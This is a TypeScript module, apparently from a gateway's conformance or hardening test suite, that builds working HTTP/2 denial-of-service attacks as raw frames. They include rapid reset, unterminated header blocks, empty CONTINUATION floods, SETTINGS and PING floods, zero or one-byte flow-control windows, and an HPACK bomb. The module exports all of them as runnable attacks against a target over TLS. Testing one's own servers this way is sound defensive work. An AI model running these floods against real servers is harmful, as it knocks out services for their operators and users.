import { BIG } from "../../../src/index.ts";
import {
  FLAG,
  FRAME,
  frame,
  headerFrames,
  PREFACE,
} from "../../../conformance/gateway/downgrade/frames.ts";
import { type Field, literals } from "../../../conformance/gateway/downgrade/hpack.ts";
import { type Attack, type Attacks, dialSecure, held, pour, type Target } from "./hostile.ts";
import { shaken } from "./tls.ts";

const NOTHING = Buffer.alloc(0);
/** RFC 9113 §7. */
const CANCEL = 8;
/** SETTINGS_INITIAL_WINDOW_SIZE of nought (RFC 9113 §6.5.2). */
const NO_WINDOW = Buffer.of(0, 4, 0, 0, 0, 0);
const STREAMS_AT_ONCE = 4;

/** What a client sends when its session has begun. */
interface Frames {
  /** The payload of its SETTINGS. */
  readonly settings?: Buffer;
  readonly first?: (target: Target) => Buffer;
  /** Sent as fast as it is taken; `n` counts from nought. */
  readonly flood?: (n: number, target: Target) => Buffer;
  /** Sent again and again. */
  readonly drip?: Buffer;
  /** Does not read what it is sent. */
  readonly isDeaf?: boolean;
}

const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const fieldsOf = ({ host }: Target, path = "/"): readonly Field[] => [
  [":method", "GET"],
  [":scheme", "https"],
  [":path", path],
  [":authority", host],
];

const get = (stream: number, target: Target, path?: string): Buffer =>
  headerFrames(stream, literals(fieldsOf(target, path)), true);

const reset = (stream: number): Buffer =>
  frame({ type: FRAME.resetStream, flags: 0, stream, payload: word(CANCEL) });

const ofConnection = (type: number, payload: Buffer): Buffer =>
  frame({ type, flags: 0, stream: 0, payload });

const many = (times: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: times }, (_, i) => make(i)));

const PINGS = many(1_000, () => ofConnection(FRAME.ping, Buffer.alloc(8)));
const SETTINGS = many(1_000, () => ofConnection(FRAME.settings, NO_WINDOW));

/** A header block that is begun and not ended. */
const begun = (target: Target): Buffer =>
  frame({
    type: FRAME.headers,
    flags: FLAG.endStream,
    stream: 1,
    payload: literals(fieldsOf(target)),
  });

const continued = (payload: Buffer): Buffer =>
  frame({ type: FRAME.continuation, flags: 0, stream: 1, payload });

/**
 * A field of 4,000 bytes that goes into the table (RFC 7541 §6.2.1: a literal with its name, lengths in two bytes above
 * 127), then 10,000 references to it, a byte each (§6.1): 40 MB in 14 kB.
 */
const bomb = (n: number, target: Target): Buffer => {
  const value = Buffer.alloc(4_000, "a");
  const length = Buffer.of(0x7f, ((value.length - 127) % 128) | 0x80, (value.length - 127) >> 7);
  const kept = Buffer.concat([Buffer.of(0x40, 1), Buffer.from("x"), length, value]);
  const references = Buffer.alloc(10_000, 0x80 | 62);
  const block = Buffer.concat([literals(fieldsOf(target)), kept, references]);
  return headerFrames(2 * n + 1, block, true);
};

const FRAMES: Readonly<Record<string, Frames>> = {
  "HTTP/2 rapid reset": {
    flood: (n, target) =>
      many(100, (i) => {
        const stream = 2 * (100 * n + i) + 1;
        return Buffer.concat([get(stream, target), reset(stream)]);
      }),
  },
  "HTTP/2 header block without end": {
    first: begun,
    flood: () => continued(literals([["x-flood", "a".repeat(10_000)]])),
  },
  "HTTP/2 empty CONTINUATION flood": {
    first: begun,
    flood: () => many(1_000, () => continued(NOTHING)),
  },
  "HTTP/2 SETTINGS flood": { flood: () => SETTINGS },
  "HTTP/2 SETTINGS flood, answers unread": { flood: () => SETTINGS, isDeaf: true },
  "HTTP/2 PING flood": { flood: () => PINGS },
  "HTTP/2 PING flood, answers unread": { flood: () => PINGS, isDeaf: true },
  "HTTP/2 window of nought": {
    settings: NO_WINDOW,
    first: (target) => many(STREAMS_AT_ONCE, (i) => get(2 * i + 1, target, BIG)),
  },
  "HTTP/2 window of a byte at a time": {
    settings: NO_WINDOW,
    first: (target) => many(STREAMS_AT_ONCE, (i) => get(2 * i + 1, target, BIG)),
    drip: many(STREAMS_AT_ONCE, (i) =>
      frame({ type: FRAME.windowUpdate, flags: 0, stream: 2 * i + 1, payload: word(1) }),
    ),
  },
  "HTTP/2 HPACK bomb": { flood: bomb },
};

export const HTTP2_ATTACKS: Attacks = Object.fromEntries(
  Object.entries(FRAMES).map(([name, frames]): [string, Attack] => [
    name,
    { crowd: "HTTP/2", run: (target, signal) => send(frames, target, signal) },
  ]),
);

async function send(frames: Frames, target: Target, signal: AbortSignal): Promise<void> {
  const { settings = NOTHING, first, flood, drip, isDeaf = false } = frames;
  const socket = dialSecure(target, { ALPNProtocols: ["h2"] });
  const over = held(socket, signal, () => drip && socket.write(drip));
  await shaken(socket);
  if (socket.destroyed) return over;
  if (!isDeaf) socket.resume();
  socket.write(Buffer.from(PREFACE));
  socket.write(Buffer.concat([ofConnection(FRAME.settings, settings), first?.(target) ?? NOTHING]));
  let n = 0;
  if (flood) pour(socket, () => flood(n++, target));
  return over;
}
